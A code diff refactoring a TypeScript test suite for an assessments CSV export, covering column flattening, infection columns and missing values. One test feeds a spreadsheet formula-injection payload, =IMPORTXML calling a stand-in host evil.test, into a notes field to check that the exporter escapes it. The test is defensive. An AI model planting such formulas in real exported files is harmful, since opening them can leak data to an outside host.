@@ -1,12 +1,7 @@
 import { describe, expect, it } from 'vitest'
 import { csvOf } from '../../../src/shared/csv'
 import { parseAssessment } from '../../../src/api/schemas/assessment'
-import {
-  ASSESSMENT_CSV_HEADERS,
-  assessmentCsvRows,
-  ASSESSMENTS_CSV,
-  infectionCells,
-} from '../../../src/features/assessments/assessment-csv'
+import { ASSESSMENTS_CSV } from '../../../src/features/assessments/assessment-csv'
 import { assessment, asJson } from '../api/fixtures'
 
 /** The fixture's values with some replaced. */
@@ -17,12 +12,18 @@ function valuesWith(id: number, patch: Record<string, unknown>) {
 }
 
 const rowOf = (raw: unknown) => {
-  const [row] = assessmentCsvRows([parseAssessment(raw)])
+  const [row] = ASSESSMENTS_CSV.rows([parseAssessment(raw)])
   if (!row) throw new Error('no row')
   return row
 }
 
-describe('assessmentCsvRows', () => {
+/** The infection columns of an assessment whose values hold this infection and nothing else. */
+const infectionCells = (infection: unknown) =>
+  Object.fromEntries(
+    Object.entries(rowOf({ id: 1, date: '2026-03-01', values: { infection } })).filter(([key]) => key.startsWith('infection_')),
+  )
+
+describe('the rows of the assessments CSV', () => {
   it('flattens every value into its own column, codes as sent', () => {
     expect(rowOf(assessment(3))).toEqual({
       id: 3,
@@ -56,7 +57,7 @@ describe('assessmentCsvRows', () => {
   })
 
   it('has exactly the columns the header names', () => {
-    expect(Object.keys(rowOf(assessment(3))).sort()).toEqual([...ASSESSMENT_CSV_HEADERS].sort())
+    expect(Object.keys(rowOf(assessment(3))).sort()).toEqual([...ASSESSMENTS_CSV.headers].sort())
   })
 
   it('puts an infection of unknown shape into infection_other as JSON, and reports it', () => {
@@ -89,7 +90,7 @@ describe('assessmentCsvRows', () => {
   it('leaves cells empty when values are missing, and lists what is missing', () => {
     const row = rowOf({ id: 5, date: '2026-03-02' })
     expect(row).toMatchObject({ id: 5, date: '2026-03-02', spec_issues: '' })
-    for (const header of ASSESSMENT_CSV_HEADERS.filter((h) => !['id', 'date', 'spec_issues'].includes(h))) {
+    for (const header of ASSESSMENTS_CSV.headers.filter((h) => !['id', 'date', 'spec_issues'].includes(h))) {
       expect(row[header], header).toBeUndefined()
     }
 
@@ -121,7 +122,7 @@ describe('ASSESSMENTS_CSV', () => {
     const raw = assessment(8, { values: valuesWith(8, { notes: '=IMPORTXML("http://evil.test")\nsecond line' }) })
     const csv = csvOf(ASSESSMENTS_CSV, [parseAssessment(raw)]).csv
     const [header, ...rest] = csv.split('\r\n')
-    expect(header).toBe(ASSESSMENT_CSV_HEADERS.join(','))
+    expect(header).toBe(ASSESSMENTS_CSV.headers.join(','))
     expect(rest).toHaveLength(2)
     expect(rest[0]).toContain(',"\'=IMPORTXML(""http://evil.test"")\nsecond line",2026-03-01 10:00:00,')
     expect(
